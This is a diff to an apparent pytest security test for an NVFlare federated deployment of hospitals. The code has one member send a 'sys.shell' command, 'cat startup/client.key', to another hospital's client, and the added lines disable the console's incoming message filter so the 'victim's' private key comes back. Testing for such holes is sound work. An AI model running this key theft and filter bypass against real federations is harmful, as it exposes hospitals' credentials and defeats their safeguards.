@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 from deployment import HOSPITALS, SERVER, Deployment, approved, decided, deployment, until
+from nvflare.fuel.f3.cellnet.registry import Registry
 from nvflare.fuel.f3.message import Message
 from nvflare.private.admin_defs import Message as AdminMessage
 from nvflare.private.fed.client.client_req_processors import ClientRequestProcessors
@@ -123,6 +124,7 @@ def by_member(federation, hospital: str) -> str | None:
     try:
         request = Message({}, AdminMessage("sys.shell", "cat startup/client.key"))
         cell = session.api.cell.core_cell
+        cell.in_filter_reg = Registry()  # FLARE's own filter of this console would stop the victim's answer
         reply = cell.send_request(channel="admin", topic="admin", target=hospital, request=request, timeout=5.0)
         return getattr(reply.payload, "body", None)
     finally:
